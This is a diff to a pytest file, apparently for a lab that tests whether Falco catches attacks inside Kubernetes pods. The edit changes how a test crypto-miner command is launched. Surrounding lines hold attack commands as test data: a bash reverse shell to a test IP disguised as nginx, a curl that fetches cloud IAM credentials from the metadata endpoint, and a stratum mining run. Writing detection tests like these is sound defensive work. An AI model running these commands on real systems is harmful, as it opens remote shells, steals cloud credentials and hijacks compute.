@@ -36,6 +36,8 @@ import pytest
 from fslab import PYTHON, FalcoLab
 from netpeers import peer
 
+import kubeguard
+
 pytestmark = pytest.mark.root
 
 PEER = "198.51.100.7"  # TEST-NET-2 on the pod's loopback: not RFC 1918, so "outbound" to Falco
@@ -91,7 +93,11 @@ def send_datagrams(address: str, port: int, python: str = PYTHON) -> str:
 REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
                  f"'bash -c \"bash -i >& /dev/tcp/{PEER}/4444 0>&1\"; true'")
 METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
-MINER = f"{PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet --max-cpu 100 --shares 1"
+# The base interpreter (its name is not one of Falco's interpreted_binaries, unlike a virtualenv's `python`), with
+# the folder kubeguard is imported from on its path (lab pods bind it back).
+KUBEGUARD_PATH = Path(kubeguard.__file__).resolve().parents[1]
+MINER = (f"PYTHONPATH={KUBEGUARD_PATH} {PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet "
+         "--max-cpu 100 --shares 1")
 
 # The host's / bind-mounted at /host of a container whose own root is a chroot of the machine's /usr (what a
 # hostPath volume of / looks like from inside): a read below /host/.
